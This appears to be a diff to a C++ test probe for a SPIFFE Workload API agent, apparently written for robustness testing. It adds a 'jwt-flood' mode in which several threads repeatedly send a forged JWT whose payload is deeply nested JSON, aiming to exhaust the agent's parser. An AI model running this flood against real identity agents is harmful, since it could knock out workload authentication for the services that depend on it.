@@ -30,7 +30,9 @@
 #include <sys/un.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <atomic>
+#include <chrono>
 #include <cstdlib>
 #include <cstring>
 #include <iostream>
@@ -221,6 +223,77 @@ int Conns(const std::string& socket, int n) {
   return rc;
 }
 
+// --- jwt-flood: ValidateJWTSVID abuse (issue 8, item 5) -------------------
+//   probe jwt-flood SOCKET THREADS SECONDS BYTES
+// THREADS connections each send ValidateJWTSVID back to back for SECONDS,
+// with a token whose payload is BYTES of {"x":[[[...]]]} (nested about
+// BYTES/2 deep; an object, as the claims must be, or a parser stops at the
+// first byte) under an ES256 header and a signature that does not verify.
+// Prints the tally of codes, then "slowest_ms=N": how long the slowest call
+// took.
+std::string FloodB64(const std::string& data) {
+  static constexpr char kAlphabet[] =
+      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+  std::string out;
+  for (size_t i = 0; i < data.size(); i += 3) {
+    uint32_t n = static_cast<unsigned char>(data[i]) << 16;
+    if (i + 1 < data.size()) n |= static_cast<unsigned char>(data[i + 1]) << 8;
+    if (i + 2 < data.size()) n |= static_cast<unsigned char>(data[i + 2]);
+    const size_t chars = std::min<size_t>(4, data.size() - i + 1);
+    for (size_t c = 0; c < chars; ++c)
+      out += kAlphabet[(n >> (18 - 6 * c)) & 63];
+  }
+  return out;
+}
+
+int JwtFlood(const std::string& socket, int threads, int seconds,
+             size_t bytes) {
+  const size_t depth = bytes > 8 ? (bytes - 6) / 2 : 1;
+  const std::string token =
+      FloodB64(R"({"alg":"ES256","kid":"flood","typ":"JWT"})") + "." +
+      FloodB64("{\"x\":" + std::string(depth, '[') + std::string(depth, ']') +
+               "}") +
+      "." + FloodB64(std::string(64, '\x01'));
+  const auto end =
+      std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
+  std::mutex mu;
+  std::map<grpc::StatusCode, int> tally;
+  std::chrono::steady_clock::duration slowest{};
+  std::vector<std::thread> workers;
+  for (int t = 0; t < threads; ++t) {
+    workers.emplace_back([&] {
+      auto stub = SpiffeWorkloadAPI::NewStub(Dial(socket));
+      while (std::chrono::steady_clock::now() < end) {
+        grpc::ClientContext context;
+        context.AddMetadata("workload.spiffe.io", "true");
+        // Long enough to see an agent that is stuck: the calls must end
+        // on their own, not by this deadline.
+        context.set_deadline(std::chrono::system_clock::now() +
+                             std::chrono::seconds(seconds + 10));
+        ValidateJWTSVIDRequest request;
+        request.set_audience("flood");
+        request.set_svid(token);
+        ValidateJWTSVIDResponse response;
+        const auto start = std::chrono::steady_clock::now();
+        const grpc::Status status =
+            stub->ValidateJWTSVID(&context, request, &response);
+        const auto took = std::chrono::steady_clock::now() - start;
+        std::lock_guard<std::mutex> lock(mu);
+        ++tally[status.error_code()];
+        slowest = std::max(slowest, took);
+      }
+    });
+  }
+  for (auto& w : workers) w.join();
+  PrintTally(tally);
+  std::cout
+      << "slowest_ms="
+      << std::chrono::duration_cast<std::chrono::milliseconds>(slowest).count()
+      << std::endl;
+  return 0;
+}
+// --- end jwt-flood ---------------------------------------------------------
+
 int ConnectExec(const std::string& socket, char** program) {
   const int fd = ConnectRaw(socket);  // inherited across exec
   if (fd < 0) return 0;
@@ -358,6 +431,10 @@ int main(int argc, char** argv) {
       return 0;
     }
     return Report(status);
+  }
+  if (mode == "jwt-flood" && argc == 6) {
+    return JwtFlood(argv[2], std::atoi(argv[3]), std::atoi(argv[4]),
+                    std::strtoul(argv[5], nullptr, 10));
   }
   if (mode == "connect-exec" && argc >= 4)
     return ConnectExec(argv[2], argv + 3);
